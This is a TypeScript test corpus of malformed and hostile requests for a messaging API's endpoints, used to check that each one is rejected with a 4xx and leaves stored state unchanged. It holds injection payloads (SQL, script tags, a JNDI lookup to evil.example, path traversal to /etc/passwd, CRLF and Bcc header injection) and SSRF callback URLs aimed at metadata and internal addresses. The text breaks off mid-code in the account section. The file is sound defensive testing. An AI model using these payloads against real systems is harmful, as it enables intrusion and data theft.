// The bad-input corpus: malformed requests, one table per endpoint. Each must
// get a 4xx with the error envelope (naming `param` where one is given here),
// store and change nothing (every row, Idempotency-Key record and the rate
// limiter's durable state of the account and of another, test/support/state.ts),
// and never a 5xx. To cover a new endpoint, add a table below
// and list it in CORPUS.
import { MAX_MEDIA_BODY_BYTES } from "../../src/http/body.ts";
import { smsBody } from "../support/messages.ts";
import type { BadRequest, Body, Expected } from "./bad-request.ts";
import { BATCH_CORPUS } from "./batches.corpus.ts";
import { deliveryControlCases } from "./delivery-controls.ts";
import { GEO_RETENTION_CORPUS } from "./geo-retention.corpus.ts";
import { MEDIA_CORPUS } from "./media.corpus.ts";
import { PRICE_CORPUS } from "./price.corpus.ts";
import { VERIFICATION_CORPUS } from "./verifications.corpus.ts";
import { WEBHOOK_ENDPOINT_CORPUS } from "./webhook-endpoints.corpus.ts";

export type { BadRequest };

const invalid = (param: string, code = "parameter_invalid"): Expected => ({ status: 400, code, param });
const unknownParam = (param: string): Expected => invalid(param, "parameter_unknown");

// Strings an attacker tries in every field that has rules.
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE messages; --',
  "<script>alert(1)</script>",
  "{{7*7}}${7*7}",
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "%00%0d%0aSet-Cookie: x=1",
];

// Unicode and control-character edge cases, placed inside a value that is
// otherwise valid. (Spaces, dashes and invisible formatting characters inside
// a phone number are normalized away, as libphonenumber does; not listed.)
const ODD_CHARACTERS: [string, string][] = [
  ["a NUL byte", "\u0000"],
  ["a right-to-left override", "\u202e"],
  ["a lone surrogate", "\ud800"],
  ["fullwidth digits", "０１"],
  ["a newline", "\n"],
  ["a tab", "\t"],
  ["an escape character", "\u001b[31m"],
];

// ---------------------------------------------------------------- POST /v1/messages

const create = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest => ({
  name: `POST /v1/messages: ${name}`,
  method: "POST",
  path: "/v1/messages",
  body,
  ...expected,
  ...extra,
});

/** A valid SMS body with one field replaced (undefined removes it). */
const withField = (field: string, value: unknown) => {
  const body: Record<string, unknown> = smsBody();
  if (value === undefined) delete body[field];
  else body[field] = value;
  return { json: body };
};
const withContent = (content: unknown, base: Record<string, unknown> = {}) => ({ json: smsBody({ content, ...base }) });
const email = (content: unknown) => withContent(content, { channel: "EMAIL", to: "ana@example.com" });
const template = (content: Record<string, unknown>) => withContent({ template_id: "auth_otp", ...content }, { channel: "WHATSAPP" });

const brokenBodies: BadRequest[] = [
  create("truncated JSON", { raw: '{"channel":"SMS","to":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  create("an open brace", { raw: "{", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  // Zero bytes are no parameters whatever the type (so an optional body may be sent empty): {}'s 400.
  create("an empty JSON body", { raw: "", contentType: "application/json" }, invalid("channel")),
  create("whitespace as JSON", { raw: "  \n ", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  create("single-quoted JSON", { raw: "{'channel':'SMS'}", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  create("a trailing comma", { raw: '{"channel":"SMS",}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  create("JSON with a comment", { raw: '{"channel":"SMS" /* hi */}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  create("NaN in JSON", { raw: '{"channel":NaN}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  // A leading byte-order mark is tolerated; what follows is still validated.
  create("a byte-order mark before incomplete JSON", { raw: '\ufeff{"channel":"SMS"}', contentType: "application/json" }, invalid("to")),
  create("invalid UTF-8 escapes", { raw: '{"to":"\\uZZZZ"}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  create("a JSON array", { json: [smsBody()] }, { status: 400, code: "invalid_body" }),
  create("a JSON string", { json: "channel=SMS" }, { status: 400, code: "invalid_body" }),
  create("a JSON number", { json: 42 }, { status: 400, code: "invalid_body" }),
  create("JSON null", { json: null }, { status: 400, code: "invalid_body" }),
  create("JSON true", { json: true }, { status: 400, code: "invalid_body" }),
  create("an empty object", { json: {} }, invalid("channel")),
  create("an empty form", { form: "" }, invalid("channel")),
  create("no content type", { raw: JSON.stringify(smsBody()), contentType: "" }, { status: 415, code: "unsupported_media_type" }),
  create("text/plain", { raw: JSON.stringify(smsBody()), contentType: "text/plain" }, { status: 415, code: "unsupported_media_type" }),
  create("XML", { raw: "<message><channel>SMS</channel></message>", contentType: "application/xml" }, { status: 415, code: "unsupported_media_type" }),
  create(
    "multipart",
    { raw: "--x\r\nContent-Disposition: form-data; name=channel\r\n\r\nSMS\r\n--x--", contentType: "multipart/form-data; boundary=x" },
    {
      status: 415,
      code: "unsupported_media_type",
    },
  ),
  // A create's limit is a message's files as base64 (src/http/body.ts): past it, the error names content.
  create(
    "a body over 35 MiB",
    { json: smsBody({ content: { text: "x".repeat(MAX_MEDIA_BODY_BYTES) } }) },
    { status: 413, code: "media_too_large", param: "content" },
  ),
  create(
    "a JSON nesting bomb",
    { raw: `{"channel":"SMS","to":"+14155550123","content":${"[".repeat(5000)}${"]".repeat(5000)}}`, contentType: "application/json" },
    { status: 400, code: "invalid_json" },
  ),
  create(
    "a JSON object nesting bomb",
    { raw: `{"channel":"SMS","to":"+14155550123","content":{"text":${'{"a":'.repeat(3000)}1${"}".repeat(3000)}}}`, contentType: "application/json" },
    { status: 400, code: "invalid_json" },
  ),
  create("a form nesting bomb", { form: `channel=SMS&to=%2B14155550123&content${"[a]".repeat(50)}=x` }, { status: 400, code: "invalid_form_body" }),
  create("a form with 300 params", { form: Array.from({ length: 300 }, (_, i) => `p${i}=1`).join("&") }, { status: 400, code: "invalid_form_body" }),
  create(
    "a form array over its limit",
    { form: `channel=SMS&to=%2B14155550123&${Array.from({ length: 30 }, (_, i) => `content[text][${i}]=a`).join("&")}` },
    {
      status: 400,
      code: "invalid_form_body",
    },
  ),
  create("duplicate form keys for to", { form: "channel=SMS&to=%2B14155550123&to=%2B14155550124&content[text]=hi" }, invalid("to")),
  create("duplicate form keys for channel", { form: "channel=SMS&channel=EMAIL&to=%2B14155550123&content[text]=hi" }, invalid("channel")),
  create("a form array for channel", { form: "channel[]=SMS&to=%2B14155550123&content[text]=hi" }, invalid("channel")),
  create("broken percent-encoding in a form", { form: "channel=SMS&to=%ZZ&content[text]=hi" }, invalid("to")),
  create("a Latin-1 percent-escape in a form value", { form: "channel=SMS&to=%2B14155550123&content[text]=caf%E9" }, invalid("content[text]")),
  create(
    "a lone surrogate escape in JSON text",
    { raw: '{"channel":"SMS","to":"+14155550123","content":{"text":"lone \\ud83d"}}', contentType: "application/json" },
    invalid("content[text]"),
  ),
  create(
    "a Latin-1 charset",
    { raw: JSON.stringify(smsBody()), contentType: "application/json; charset=iso-8859-1" },
    { status: 415, code: "unsupported_media_type" },
  ),
  create("form content as a plain string", { form: "channel=SMS&to=%2B14155550123&content=hello" }, invalid("content")),
  create("form __proto__ key", { form: "channel=SMS&to=%2B14155550123&content[text]=hi&__proto__[admin]=1" }, unknownParam("__proto__[admin]")),
  create(
    "form nested __proto__ key",
    { form: "channel=SMS&to=%2B14155550123&content[text]=hi&content[__proto__][x]=1" },
    unknownParam("content[__proto__][x]"),
  ),
];

const wrongTypes: BadRequest[] = [
  ...[1, true, null, [], {}, "", "FAX", "sms ", "voice"].map((value) =>
    create(`channel ${JSON.stringify(value)}`, withField("channel", value), invalid("channel")),
  ),
  create("channel missing", withField("channel", undefined), invalid("channel")),
  ...[
    14155550123,
    null,
    [],
    {},
    "",
    "+1",
    "14155550123",
    "+999999999999999",
    "+1 415 555 0123 ext. 9",
    "+14155550123;ext=9",
    `+${"1".repeat(400)}`,
    "ana@example.com",
  ].map((value) => create(`to ${JSON.stringify(value).slice(0, 40)}`, withField("to", value), invalid("to"))),
  create("to missing", withField("to", undefined), invalid("to")),
  ...["ana@", "@example.com", "ana@exa mple.com", "ana@@example.com", "+14155550123", `${"a".repeat(250)}@example.com`].map((value) =>
    create(`email to ${value.slice(0, 40)}`, { json: { channel: "EMAIL", to: value, content: { subject: "Hi", text: "Hello" } } }, invalid("to")),
  ),
  ...[null, 42, "", "sender-id-too-long", "!!!", "12345", "a".repeat(321)].map((value) =>
    create(`from ${JSON.stringify(value).slice(0, 40)}`, withField("from", value), invalid("from")),
  ),
  create("content missing", withField("content", undefined), invalid("content")),
  ...[null, "hello", [], 7].map((value) => create(`content ${JSON.stringify(value)}`, withContent(value), invalid("content"))),
  create("content {}", withContent({}), invalid("content[text]")),
  create("sms text empty", withContent({ text: "" }), invalid("content[text]")),
  create("sms text a number", withContent({ text: 123 }), invalid("content[text]")),
  create("sms text null", withContent({ text: null }), invalid("content[text]")),
  create("sms text over 1600 characters", withContent({ text: "x".repeat(1601) }), invalid("content[text]")),
  create("sms content with an unknown field", withContent({ text: "hi", media_url: "https://x.example/a.png" }), unknownParam("content[media_url]")),
  create("whatsapp text over 4096 characters", withContent({ text: "x".repeat(4097) }, { channel: "WHATSAPP" }), invalid("content[text]")),
  create("email without subject", email({ text: "Hello" }), invalid("content[subject]")),
  create("email without text or html", email({ subject: "Hi" }), invalid("content[text]")),
  create("email subject over 998 characters", email({ subject: "s".repeat(999), text: "Hello" }), invalid("content[subject]")),
  create("email html over 100000 characters", email({ subject: "Hi", html: "h".repeat(100_001) }), invalid("content[html]")),
  create("template_id with spaces", template({ template_id: "Auth OTP" }), invalid("content[template_id]")),
  create("template_id too long", template({ template_id: "t".repeat(65) }), invalid("content[template_id]")),
  create("template_id a number", template({ template_id: 12 }), invalid("content[template_id]")),
  create("template variables not an object", template({ variables: "code=1" }), invalid("content[variables]")),
  create("template variable name with a dash", template({ variables: { "bad-name": "1" } }), invalid("content[variables][bad-name]")),
  create("template variable value an object", template({ variables: { code: { nested: 1 } } }), invalid("content[variables][code]")),
  create("template variable value over 1024 characters", template({ variables: { code: "9".repeat(1025) } }), invalid("content[variables][code]")),
  create(
    "more than 50 template variables",
    template({ variables: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`v${i}`, "1"])) }),
    invalid("content[variables]"),
  ),
  create(
    "an infinite number variable",
    { raw: '{"channel":"WHATSAPP","to":"+14155550123","content":{"template_id":"otp","variables":{"code":1e400}}}', contentType: "application/json" },
    invalid("content[variables][code]"),
  ),
  create("a template with an unknown field", template({ locale: "en" }), unknownParam("content[locale]")),
  ...[
    "",
    "not a url",
    "ftp://files.example/hook",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data",
    "http://10.0.0.1/hook",
    "https://user:pass@hooks.example/x",
    "http://metadata/",
    `https://hooks.example/${"a".repeat(2048)}`,
    42,
  ].map((value) => create(`status_callback ${JSON.stringify(value).slice(0, 40)}`, withField("status_callback", value), invalid("status_callback"))),
  create("an unknown field", withField("priority", "high"), unknownParam("priority")),
  create("a field in the wrong case", withField("Channel", "SMS"), unknownParam("Channel")),
  create(
    "a __proto__ field",
    { raw: JSON.stringify(smsBody()).replace(/}$/, ',"__proto__":{"admin":true}}'), contentType: "application/json" },
    unknownParam("__proto__"),
  ),
  create("a constructor field", withField("constructor", { prototype: {} }), unknownParam("constructor")),
];

const oddStrings: BadRequest[] = [
  ...ODD_CHARACTERS.flatMap(([what, char]) => [
    create(`channel with ${what}`, withField("channel", `sms${char}`), invalid("channel")),
    create(`to with ${what}`, withField("to", `+1415555${char}0123`), invalid("to")),
    create(`template_id with ${what}`, template({ template_id: `otp${char}` }), invalid("content[template_id]")),
    create(`email to with ${what}`, { json: { channel: "EMAIL", to: `ana${char}@example.com`, content: { subject: "Hi", text: "Hello" } } }, invalid("to")),
  ]),
  create("channel of only whitespace", withField("channel", "   "), invalid("channel")),
  create("channel with a zero-width space", withField("channel", "s\u200bms"), invalid("channel")),
  create("channel in fullwidth letters", withField("channel", "ＳＭＳ"), invalid("channel")),
];

const injections: BadRequest[] = INJECTIONS.flatMap((value) => [
  create(`injection in channel: ${value}`, withField("channel", value), invalid("channel")),
  create(`injection in to: ${value}`, withField("to", value), invalid("to")),
  create(`injection in from: ${value}`, withField("from", value), invalid("from")),
  create(`injection in template_id: ${value}`, template({ template_id: value }), invalid("content[template_id]")),
  create(`injection in a variable name: ${value}`, template({ variables: { [value]: "1" } }), invalid(`content[variables][${value}]`)),
  create(`injection in status_callback: ${value}`, withField("status_callback", value), invalid("status_callback")),
  create(`injection as a field name: ${value}`, withField(value, "1"), unknownParam(value)),
]);

const badIdempotencyKeys: BadRequest[] = [
  create("an empty Idempotency-Key", withField("to", "+14155550123"), { status: 400, code: "idempotency_key_invalid" }, { headers: { "Idempotency-Key": "" } }),
  create(
    "an Idempotency-Key of 256 characters",
    withField("to", "+14155550123"),
    { status: 400, code: "idempotency_key_invalid" },
    {
      headers: { "Idempotency-Key": "k".repeat(256) },
    },
  ),
  create(
    "an Idempotency-Key with a tab",
    withField("to", "+14155550123"),
    { status: 400, code: "idempotency_key_invalid" },
    {
      headers: { "Idempotency-Key": "a\tb" },
    },
  ),
  create(
    "an Idempotency-Key and broken JSON",
    { raw: "{", contentType: "application/json" },
    { status: 400, code: "invalid_json" },
    {
      headers: { "Idempotency-Key": "corpus-broken-json" },
    },
  ),
  create("an Idempotency-Key and an invalid body", withField("to", "nope"), invalid("to"), { headers: { "Idempotency-Key": "corpus-invalid-body" } }),
];

// ---------------------------------------------------------------- GET /v1/messages

const list = (name: string, query: string, expected: Expected): BadRequest => ({
  name: `GET /v1/messages?${query}: ${name}`,
  method: "GET",
  path: `/v1/messages?${query}`,
  ...expected,
});

const b64url = (text: string) => btoa(text).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
const validId = `msg_${"0".repeat(32)}`;

const listCases: BadRequest[] = [
  ...["0", "101", "-1", "abc", "1.5", "", "1e2", "0x10", "9".repeat(30), "10&limit=20"].map((value) => list("bad limit", `limit=${value}`, invalid("limit"))),
  ...[
    ["garbage", "!!!"],
    ["not base64 JSON", "abc"],
    ["JSON without dir", b64url(JSON.stringify({ id: validId }))],
    ["a bad direction", b64url(JSON.stringify({ id: validId, dir: "up" }))],
    ["a bad id", b64url(JSON.stringify({ id: "msg_1", dir: "next" }))],
    ["an extra field", b64url(JSON.stringify({ id: validId, dir: "next", admin: true }))],
    ["filters of the wrong type", b64url(JSON.stringify({ id: validId, dir: "next", filters: { status: 1 } }))],
    ["a forged invalid filter", b64url(JSON.stringify({ id: validId, dir: "next", filters: { status: "hacked" } }))],
    ["a forged unknown filter", b64url(JSON.stringify({ id: validId, dir: "next", filters: { account_id: "acct_x" } }))],
    ["an injection", b64url("' OR 1=1 --")],
    ["too long", "a".repeat(2000)],
    ["empty", ""],
    ["percent-encoded NUL", "%00"],
  ].map(([what, cursor]) => list(`cursor ${what}`, `cursor=${cursor}`, invalid("cursor"))),
  list("an unknown param", "foo=1", unknownParam("foo")),
  list("starting_after (not ours)", `starting_after=${validId}`, unknownParam("starting_after")),
  list("bad status", "status=sending", invalid("status")),
  list("bad channel", "channel=fax", invalid("channel")),
  list("bad direction", "direction=sideways", invalid("direction")),
  list("direction in upper case", "direction=INBOUND", invalid("direction")),
  list("bad to", "to=abc", invalid("to")),
  list("bad created[gte]", "created[gte]=yesterday", invalid("created[gte]")),
  list("negative created[lte]", "created[lte]=-5", invalid("created[lte]")),
  list("created without an operator", "created=1", unknownParam("created")),
  ...INJECTIONS.map((value) => list("injection in status", `status=${encodeURIComponent(value)}`, invalid("status"))),
  ...INJECTIONS.map((value) => list("injection in to", `to=${encodeURIComponent(value)}`, invalid("to"))),
];

// ---------------------------------------------------------------- GET /v1/messages/:id

const retrieve = (name: string, id: string, expected: Expected): BadRequest => ({
  name: `GET /v1/messages/${id.slice(0, 40)}: ${name}`,
  method: "GET",
  path: `/v1/messages/${id}`,
  ...expected,
});

const notFound: Expected = { status: 404, code: "resource_missing", param: "id" };

const retrieveCases: BadRequest[] = [
  retrieve("an unknown id", validId, notFound),
  retrieve("not an id", "hello", notFound),
  retrieve("an id over 64 characters", `msg_${"a".repeat(80)}`, invalid("id")),
  retrieve("another type's id", `acct_${"0".repeat(32)}`, notFound),
  ...INJECTIONS.map((value) => retrieve("injection", encodeURIComponent(value), notFound)),
  retrieve("a unicode id", encodeURIComponent("msg_ü😀"), notFound),
];

// ---------------------------------------------------------------- GET /v1/messages/:id/events

const request = (name: string, method: string, path: string, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest => ({
  name,
  method,
  path,
  ...expected,
  ...extra,
});

const eventsCases: BadRequest[] = [
  request("GET events of an unknown message", "GET", `/v1/messages/${validId}/events`, notFound),
  request("GET events of a non-id", "GET", "/v1/messages/hello/events", notFound),
  request("GET events of an id over 64 characters", "GET", `/v1/messages/msg_${"a".repeat(80)}/events`, invalid("id")),
  ...INJECTIONS.map((value) => request(`GET events of an injection: ${value}`, "GET", `/v1/messages/${encodeURIComponent(value)}/events`, notFound)),
];

// ---------------------------------------------------------------- /v1/templates

/** A template the corpus's account has before the corpus runs, for updates that must leave it unchanged. */
export const EXISTING_TEMPLATE = { id: "corpus_existing", sms: { text: "Your code is {{code}}" } };

const templateBody = (overrides: Record<string, unknown> = {}) => ({ json: { id: "corpus_otp", sms: { text: "Your code is {{code}}" }, ...overrides } });
const createTemplate = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest =>
  request(`POST /v1/templates: ${name}`, "POST", "/v1/templates", expected, { body, ...extra });
const updateTemplate = (name: string, id: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/templates/${id.slice(0, 40)}: ${name}`, "POST", `/v1/templates/${id}`, expected, { body });

const templateCases: BadRequest[] = [
  createTemplate("truncated JSON", { raw: '{"id":"corpus_otp","sms":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  createTemplate("a JSON array", { json: [templateBody().json] }, { status: 400, code: "invalid_body" }),
  createTemplate("text/plain", { raw: JSON.stringify(templateBody().json), contentType: "text/plain" }, { status: 415, code: "unsupported_media_type" }),
  createTemplate("a body over 128 KiB", templateBody({ sms: { text: "x".repeat(130 * 1024) } }), { status: 413, code: "body_too_large" }),
  createTemplate("a form nesting bomb", { form: `id=corpus_otp&sms${"[a]".repeat(50)}=x` }, { status: 400, code: "invalid_form_body" }),
  createTemplate("form __proto__ key", { form: "id=corpus_otp&sms[text]=hi&sms[__proto__][x]=1" }, unknownParam("sms[__proto__][x]")),
  createTemplate("no body for any channel", { json: { id: "corpus_otp" } }, { status: 400 }),
  createTemplate("no id", { json: { sms: { text: "hi" } } }, invalid("id")),
  ...[null, 42, "", "Auth_OTP", "auth-otp", "auth otp", "t".repeat(65), "ü"].map((value) =>
    createTemplate(`id ${JSON.stringify(value).slice(0, 40)}`, templateBody({ id: value }), invalid("id")),
  ),
  ...[null, "", 7, "x".repeat(1601), "Hi {{first-name}}", "Code {{code", "{{}}"].map((value) =>
    createTemplate(`sms text ${JSON.stringify(value).slice(0, 40)}`, templateBody({ sms: { text: value } }), invalid("sms[text]")),
  ),
  createTemplate("sms body a string", templateBody({ sms: "hi" }), invalid("sms")),
  createTemplate(
    "an unknown field in the sms body",
    templateBody({ sms: { text: "hi", media_url: "https://x.example/a.png" } }),
    unknownParam("sms[media_url]"),
  ),
  createTemplate("email without subject", templateBody({ sms: undefined, email: { text: "Hi" } }), invalid("email[subject]")),
  createTemplate("email without text or html", templateBody({ sms: undefined, email: { subject: "Hi" } }), invalid("email[text]")),
  createTemplate(
    "an email subject with a line break",
    templateBody({ sms: undefined, email: { subject: "Hi\r\nBcc: x@evil.example", text: "Hi" } }),
    invalid("email[subject]"),
  ),
  createTemplate("a WhatsApp name with capitals", templateBody({ whatsapp: { name: "AuthOTP", language: "en" } }), invalid("whatsapp[name]")),
  createTemplate("a WhatsApp language that is not a code", templateBody({ whatsapp: { name: "otp", language: "English" } }), invalid("whatsapp[language]")),
  createTemplate(
    "a WhatsApp parameter that is not a variable name",
    templateBody({ whatsapp: { name: "otp", language: "en", body_params: ["a b"] } }),
    invalid("whatsapp[body_params][0]"),
  ),
  createTemplate(
    "WhatsApp body_params not a list",
    templateBody({ whatsapp: { name: "otp", language: "en", body_params: "code" } }),
    invalid("whatsapp[body_params]"),
  ),
  createTemplate("more than 50 variables", templateBody({ sms: { text: Array.from({ length: 51 }, (_, i) => `{{v${i}}}`).join(" ") } }), { status: 400 }),
  createTemplate("an unknown channel body", templateBody({ push: { text: "hi" } }), unknownParam("push")),
  createTemplate(
    "a WhatsApp category that is a list",
    templateBody({ whatsapp: { name: "otp", language: "en", category: ["utility"] } }),
    invalid("whatsapp[category]"),
  ),
  ...ODD_CHARACTERS.map(([what, char]) => createTemplate(`id with ${what}`, templateBody({ id: `otp${char}` }), invalid("id"))),
  ...INJECTIONS.flatMap((value) => [
    createTemplate(`injection in id: ${value}`, templateBody({ id: value }), invalid("id")),
    createTemplate(`injection in a WhatsApp name: ${value}`, templateBody({ whatsapp: { name: value, language: "en" } }), invalid("whatsapp[name]")),
    createTemplate(
      `injection in a WhatsApp category: ${value}`,
      templateBody({ whatsapp: { name: "otp", language: "en", category: value } }),
      invalid("whatsapp[category]"),
    ),
    createTemplate(`injection as a field name: ${value}`, templateBody({ [value]: "1" }), unknownParam(value)),
  ]),
  createTemplate("an empty Idempotency-Key", templateBody(), { status: 400, code: "idempotency_key_invalid" }, { headers: { "Idempotency-Key": "" } }),
  request("GET /v1/templates?limit=0", "GET", "/v1/templates?limit=0", invalid("limit")),
  request("GET /v1/templates?limit=101", "GET", "/v1/templates?limit=101", invalid("limit")),
  request("GET /v1/templates with a garbage cursor", "GET", "/v1/templates?cursor=!!!", invalid("cursor")),
  request(
    "GET /v1/templates with a cursor whose id is not a template id",
    "GET",
    `/v1/templates?cursor=${b64url(JSON.stringify({ id: "Auth OTP", dir: "next" }))}`,
    invalid("cursor"),
  ),
  request("GET /v1/templates with a message filter", "GET", "/v1/templates?status=failed", unknownParam("status")),
  request("GET an unknown template", "GET", "/v1/templates/missing", notFound),
  request("GET a template id over 64 characters", "GET", `/v1/templates/${"a".repeat(65)}`, invalid("id")),
  ...INJECTIONS.map((value) => request(`GET a template by an injection: ${value}`, "GET", `/v1/templates/${encodeURIComponent(value)}`, notFound)),
  updateTemplate("an unknown template", "missing", { json: { sms: { text: "hi" } } }, notFound),
  updateTemplate("a new id", "missing", { json: { id: "renamed" } }, unknownParam("id")),
  updateTemplate("an unclosed placeholder", "missing", { json: { sms: { text: "{{ oops" } } }, invalid("sms[text]")),
  updateTemplate("an id over 64 characters", "a".repeat(65), { json: { sms: { text: "hi" } } }, invalid("id")),
  updateTemplate("broken JSON", "missing", { raw: "{", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  // Against a template the account has (EXISTING_TEMPLATE, made before the corpus runs): its row must stay as it was.
  ...[
    ["a new id", { json: { id: "renamed" } }, unknownParam("id")],
    ["an unclosed placeholder", { json: { sms: { text: "{{ oops" } } }, invalid("sms[text]")],
    ["an unknown field", { json: { sms: { text: "hi", media_url: "https://x.example/a.png" } } }, unknownParam("sms[media_url]")],
    ["a placeholder in an unquoted attribute", { json: { email: { subject: "Hi", html: "<img alt={{n}}>" } } }, invalid("email[html]")],
    ["a Latin-1 percent-escape", { form: "sms[text]=caf%E9" }, invalid("sms[text]")],
    ["JSON nested 40 levels", { raw: `{"sms":${"[".repeat(39)}${"]".repeat(39)}}`, contentType: "application/json" }, { status: 400, code: "invalid_json" }],
  ].map(([name, body, expected]) => updateTemplate(`${name as string} (an existing template)`, EXISTING_TEMPLATE.id, body as Body, expected as Expected)),
  ...[
    ["an unclosed placeholder", { json: { sms: { text: "{{ oops" } } }, invalid("sms[text]")],
    ["a new id", { json: { id: "renamed" } }, unknownParam("id")],
  ].map(([name, body, expected]) => ({
    ...updateTemplate(`${name as string} (an existing template, with an Idempotency-Key)`, EXISTING_TEMPLATE.id, body as Body, expected as Expected),
    headers: { "Idempotency-Key": `corpus-update-${name as string}` },
  })),
  request("DELETE an unknown template", "DELETE", "/v1/templates/missing", notFound),
  request("DELETE a template id over 64 characters", "DELETE", `/v1/templates/${"a".repeat(65)}`, invalid("id")),
  create("template_id of a template the account does not have", template({ variables: { code: "1" } }), invalid("content[template_id]", "resource_missing")),
];

// ---------------------------------------------------------------- /v1/senders

const senderBody = (overrides: Record<string, unknown> = {}) => ({ json: { channel: "sms", address: "+14155550100", ...overrides } });
const createSender = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest =>
  request(`POST /v1/senders: ${name}`, "POST", "/v1/senders", expected, { body, ...extra });
const validSenderId = `snd_${"0".repeat(32)}`;

const senderCases: BadRequest[] = [
  createSender("truncated JSON", { raw: '{"channel":"sms","address":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  createSender("JSON null", { json: null }, { status: 400, code: "invalid_body" }),
  createSender("XML", { raw: "<sender><channel>sms</channel></sender>", contentType: "application/xml" }, { status: 415, code: "unsupported_media_type" }),
  createSender("a body over 128 KiB", senderBody({ name: "x".repeat(130 * 1024) }), { status: 413, code: "body_too_large" }),
  createSender("form __proto__ key", { form: "channel=sms&address=%2B14155550100&__proto__[admin]=1" }, unknownParam("__proto__[admin]")),
  createSender("an empty body", { json: {} }, invalid("channel")),
  ...[null, 1, "", "fax", "sms ", "ＳＭＳ"].map((value) =>
    createSender(`channel ${JSON.stringify(value)}`, senderBody({ channel: value }), invalid("channel")),
  ),
  ...[null, 14155550100, "", "4155550100", "+1", "omniflow_verify", "!!!", "+1 415 555 0100 ext. 9", "a".repeat(255)].map((value) =>
    createSender(`address ${JSON.stringify(value).slice(0, 40)}`, senderBody({ address: value }), invalid("address")),
  ),
  ...["ana@", "Shop <hi@shop.example>", "+14155550100", `${"a".repeat(250)}@example.com`].map((value) =>
    createSender(`email address ${value.slice(0, 40)}`, senderBody({ channel: "email", address: value }), invalid("address")),
  ),
  createSender("a phone_number_id on an sms sender", senderBody({ phone_number_id: "1065403" }), invalid("phone_number_id")),
  createSender("a phone_number_id that is not numeric", senderBody({ channel: "whatsapp", phone_number_id: "abc" }), invalid("phone_number_id")),
  createSender("a name on an sms sender", senderBody({ name: "Shop" }), invalid("name")),
  ...["<Shop>", 'Sh"op', "Shop\r\nBcc: x@evil.example", "", "n".repeat(101)].map((value) =>
    createSender(
      `email name ${JSON.stringify(value).slice(0, 40)}`,
      senderBody({ channel: "email", address: "hi@shop.example", name: value }),
      invalid("name"),
    ),
  ),
  ...["maybe", 1, null, "TRUE"].map((value) => createSender(`default ${JSON.stringify(value)}`, senderBody({ default: value }), invalid("default"))),
  createSender("an unknown field", senderBody({ priority: 1 }), unknownParam("priority")),
  createSender("an address the account already has", senderBody({ address: "+15005550006" }), {
    status: 409,
    code: "resource_already_exists",
    param: "address",
  }),
  ...ODD_CHARACTERS.map(([what, char]) => createSender(`address with ${what}`, senderBody({ address: `omni${char}` }), invalid("address"))),
  ...INJECTIONS.flatMap((value) => [
    createSender(`injection in address: ${value}`, senderBody({ address: value }), invalid("address")),
    createSender(`injection in an email address: ${value}`, senderBody({ channel: "email", address: value }), invalid("address")),
    createSender(`injection in phone_number_id: ${value}`, senderBody({ channel: "whatsapp", phone_number_id: value }), invalid("phone_number_id")),
  ]),
  createSender("an Idempotency-Key with a tab", senderBody(), { status: 400, code: "idempotency_key_invalid" }, { headers: { "Idempotency-Key": "a\tb" } }),
  request("GET /v1/senders?limit=abc", "GET", "/v1/senders?limit=abc", invalid("limit")),
  request("GET /v1/senders with a message cursor", "GET", `/v1/senders?cursor=${b64url(JSON.stringify({ id: validId, dir: "next" }))}`, invalid("cursor")),
  request("GET /v1/senders with a message filter", "GET", "/v1/senders?channel=sms", unknownParam("channel")),
  request("GET an unknown sender", "GET", `/v1/senders/${validSenderId}`, notFound),
  request("GET a sender id over 64 characters", "GET", `/v1/senders/snd_${"0".repeat(70)}`, invalid("id")),
  ...INJECTIONS.map((value) => request(`GET a sender by an injection: ${value}`, "GET", `/v1/senders/${encodeURIComponent(value)}`, notFound)),
  request("DELETE an unknown sender", "DELETE", `/v1/senders/${validSenderId}`, notFound),
  request("DELETE a message id as a sender", "DELETE", `/v1/senders/${validId}`, notFound),
  request("POST /v1/senders/:id", "POST", `/v1/senders/${validSenderId}`, { status: 405, code: "method_not_allowed" }, { body: senderBody() }),
  ...verifyCases(),
];

function verifyCases(): BadRequest[] {
  const path = `/v1/senders/${validSenderId}/verify`;
  const verify = (name: string, body: Body | undefined, expected: Expected) => request(`POST ${path}: ${name}`, "POST", path, expected, body ? { body } : {});
  return [
    verify("an unknown sender", undefined, notFound),
    verify("a code of five digits", { json: { code: "12345" } }, invalid("code")),
    verify("a code as a number", { json: { code: 123456 } }, invalid("code")),
    verify("an unknown field", { json: { token: "x" } }, unknownParam("token")),
    verify("truncated JSON", { raw: '{"code":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
    verify("XML", { raw: "<code>123456</code>", contentType: "application/xml" }, { status: 415, code: "unsupported_media_type" }),
    verify("a body that is not an object", { json: ["123456"] }, { status: 400, code: "invalid_body" }),
    ...ODD_CHARACTERS.map(([what, char]) => verify(`a code with ${what}`, { json: { code: `12345${char}` } }, invalid("code"))),
    ...INJECTIONS.map((value) => verify(`injection in code: ${value}`, { form: `code=${encodeURIComponent(value)}` }, invalid("code"))),
    request(`GET ${path}`, "GET", path, { status: 405, code: "method_not_allowed" }),
  ];
}

// ---------------------------------------------------------------- /v1/account

const accountCases: BadRequest[] = [
  request(
    "POST /v1/account/webhook_secret/roll with an empty Idempotency-Key",
    "POST",
    "/v1/account/webhook_secret/roll",
    { status: 400, code: "idempotency_key_invalid" },
    {
      headers: { "Idempotency-Key": "" },
    },
  ),
  request(
    "POST /v1/account/webhook_secret/roll with an overlong Idempotency-Key",
    "POST",
